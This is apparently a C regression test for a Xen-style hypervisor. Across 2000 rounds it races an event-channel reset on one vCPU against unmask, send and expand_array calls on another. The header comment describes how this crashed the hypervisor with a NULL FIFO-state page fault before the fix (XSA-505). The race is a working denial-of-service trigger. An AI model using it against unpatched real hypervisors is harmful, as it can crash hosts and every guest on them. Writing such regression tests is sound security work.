// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack-evtchn-reset: EVTCHNOP_reset on one vCPU while another vCPU of
 * the domain unmasks and sends on a port, in the FIFO ABI. The reset
 * closes every port and frees the FIFO state (the control block's and
 * the event array's references go, the hypervisor's own page too); an
 * unmask or a send that looked at the FIFO state before must not use it
 * after (Xen 4.17 holds the port's lock in both, and its reset frees the
 * FIFO state only with every port closed, under that port's lock).
 *   vCPU 0, ROUNDS times: init_control and expand_array on the same two
 *   pages, bind_ipi (a port whose word is MASKED), send on it (pending),
 *   then EVTCHNOP_reset of itself;
 *   vCPU 1, meanwhile: unmask that port, mask it again in its word, send
 *   on it, and expand_array with a page of its own, over and over
 *   (answers ignored: the port comes and goes; its pages may fill the
 *   array before vCPU 0's, whose expand_array is then -ENOSPC).
 * With two CPUs (vCPU 1 pinned to the second) the calls overlap; the
 * test asserts that the hypervisor lives through it and that, after the
 * race, the domain can go to FIFO again and get an event through it.
 * Before the fix Lamina read the domain's FIFO state pointer again after
 * checking it, with no lock against the reset: at --smp 2 the hypervisor
 * took a page fault on a NULL FIFO state in evtchn_fifo_unmask and died
 * (at --smp 2 within the first 400 rounds). XSA-505: expand_array looked
 * at the FIFO state before taking the lock and used it after: a reset in
 * between made it a #PF on NULL in evtchn_fifo_expand_array (3 runs of 3
 * at --smp 2 before the fix, none of 3 after; Xen 4.17 passes).
 * @hvargs: dom0_max_vcpus=2
 */
#include "lib/guest.h"
#include "lib/mm.h"
#include "lib/events.h"
#include "lib/fifo.h"
#include "lib/smp.h"
#include "lib/physinfo.h"

#define STACK_SIZE	8192
#define ROUNDS		2000

static uint8_t stack1[STACK_SIZE] __attribute__((aligned(16)));
static volatile evtchn_port_t race_port;
static volatile bool started, stop;
static volatile unsigned long calls1;
static volatile event_word_t *array;	/* the event array page, ours */
static uint64_t array2_mfn;		/* vCPU 1's page for expand_array */
static volatile unsigned long expands1;	/* ... that it added */
static bool one_cpu;			/* the vCPUs take turns: yield after each step */

static void vcpu1(unsigned long id)
{
	(void)id;
	started = true;
	while (!stop) {
		evtchn_port_t p = race_port;
		struct evtchn_unmask u = { p };

		if (!p)
			continue;
		evtchn_op(EVTCHNOP_unmask, &u);
		__atomic_fetch_or(&array[p], FIFO_MASKED, __ATOMIC_SEQ_CST);
		evtchn_send(p);
		if (evtchn_op(EVTCHNOP_expand_array, &(struct evtchn_expand_array){ array2_mfn }) == 0)
			expands1++;
		calls1++;
		if (one_cpu)
			HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	}
	stop = false;			/* seen */
	for (;;)
		HYPERVISOR_sched_op(SCHEDOP_block, NULL);
}

static long fifo_on(uint64_t cb_mfn, uint64_t arr_mfn)
{
	struct evtchn_init_control ic = { cb_mfn, 0, 0, 0, { 0 } };
	struct evtchn_expand_array ea = { arr_mfn };
	long rc = evtchn_op(EVTCHNOP_init_control, &ic);

	return rc ? rc : evtchn_op(EVTCHNOP_expand_array, &ea);
}

int test_main(struct start_info *si)
{
	struct evtchn_reset r = { DOMID_SELF };
	uint64_t cb, cb_mfn, arr_mfn;
	volatile struct evtchn_fifo_control_block *ctl;
	struct evtchn_bind_ipi bi;
	struct sysctl pi;
	unsigned int i, w;
	long rc;

	CHECK(events_init(si) == 0, "events_init failed");
	shared->vcpu_info[0].evtchn_upcall_mask = 1;
	shared->vcpu_info[1].evtchn_upcall_mask = 1;
	CHECK(physinfo(&pi) == 0, "physinfo failed");
	one_cpu = pi.u.physinfo.nr_cpus < 2;
	cb = scratch_page();
	cb_mfn = va_to_mfn(cb);
	ctl = (volatile struct evtchn_fifo_control_block *)cb;
	array = (volatile event_word_t *)scratch_page();
	arr_mfn = va_to_mfn((uint64_t)array);
	array2_mfn = va_to_mfn(scratch_page());
	rc = smp_start_pinned(si, vcpu1, stack1, sizeof(stack1), &started, one_cpu);
	CHECK(rc == 0, "starting and pinning vCPU 1 gave %ld", rc);
	for (i = 0; i < ROUNDS; i++) {
		for (w = 0; w < EVTCHN_FIFO_WORDS_PER_PAGE; w++)
			array[w] = FIFO_MASKED;
		memset((void *)ctl, 0, sizeof(*ctl));
		rc = fifo_on(cb_mfn, arr_mfn);
		/* vCPU 1's expand_array calls may have filled the array first. */
		CHECK(rc == 0 || rc == -ENOSPC, "round %u: going to FIFO gave %ld", i, rc);
		memset(&bi, 0, sizeof(bi));
		CHECK(evtchn_op(EVTCHNOP_bind_ipi, &bi) == 0, "round %u: bind_ipi failed", i);
		race_port = bi.port;
		evtchn_send(bi.port);
		if (one_cpu)
			HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
		rc = evtchn_op(EVTCHNOP_reset, &r);
		CHECK(rc == 0, "round %u: reset gave %ld", i, rc);
	}
	stop = true;
	while (stop)
		HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	/* FIFO again, and an event through it: linked on vCPU 0's queue. */
	for (w = 0; w < EVTCHN_FIFO_WORDS_PER_PAGE; w++)
		array[w] = FIFO_MASKED;
	memset((void *)ctl, 0, sizeof(*ctl));
	CHECK(fifo_on(cb_mfn, arr_mfn) == 0, "going to FIFO after the race failed");
	memset(&bi, 0, sizeof(bi));
	CHECK(evtchn_op(EVTCHNOP_bind_ipi, &bi) == 0, "bind_ipi after the race failed");
	array[bi.port] = 0;
	CHECK(evtchn_send(bi.port) == 0, "send after the race failed");
	CHECK((array[bi.port] & (FIFO_PENDING | FIFO_LINKED)) == (FIFO_PENDING | FIFO_LINKED),
	      "the event after the race: word %#x", array[bi.port]);
	CHECK(ctl->head[EVTCHN_FIFO_PRIORITY_DEFAULT] == bi.port, "queue head %u, port %u",
	      ctl->head[EVTCHN_FIFO_PRIORITY_DEFAULT], bi.port);
	CHECK(evtchn_op(EVTCHNOP_reset, &r) == 0, "the last reset failed");
	printf("attack-evtchn-reset: %u resets against %lu unmask+send+expand rounds of vCPU 1"
	       " (%lu pages added)\n", ROUNDS, calls1, expands1);
	return TEST_PASS;
}
